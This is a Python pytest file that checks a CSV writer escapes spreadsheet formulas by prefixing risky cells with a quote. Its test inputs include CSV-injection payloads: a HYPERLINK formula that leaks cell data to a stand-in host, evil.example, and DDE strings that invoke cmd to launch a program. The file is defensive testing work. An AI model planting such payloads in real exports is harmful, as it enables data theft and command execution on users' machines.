"""Formula-safe CSV (OWASP "CSV Injection"): no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pytest

from civicflow.core import csv_cell, write_csv


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-1+1",
        "- not a number",
    ],
)
def test_formula_cells_get_a_leading_quote(attack: str) -> None:
    assert csv_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", ["-12", "+3.5", "-1e-3", "-.5", "42", "-0"])
def test_text_that_is_only_a_number_stays_a_number(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.25"), np.float64(-4.0), np.int64(-7)])
def test_real_numbers_are_written_as_numbers(value: object) -> None:
    assert csv_cell(value) == value


def test_empty_values_and_plain_text() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(float("nan")) == ""
    assert csv_cell("Register = check") == "Register = check"
    assert csv_cell(True) == "True"


def test_write_csv_round_trip() -> None:
    buffer = io.StringIO()
    write_csv(
        buffer,
        header=["activity", "cases", "=head"],
        rows=[["=1+1", -3, 'say "hi", then -x'], ["ok", 2.5, None]],
    )
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [
        ["activity", "cases", "'=head"],
        ["'=1+1", "-3", 'say "hi", then -x'],
        ["ok", "2.5", ""],
    ]
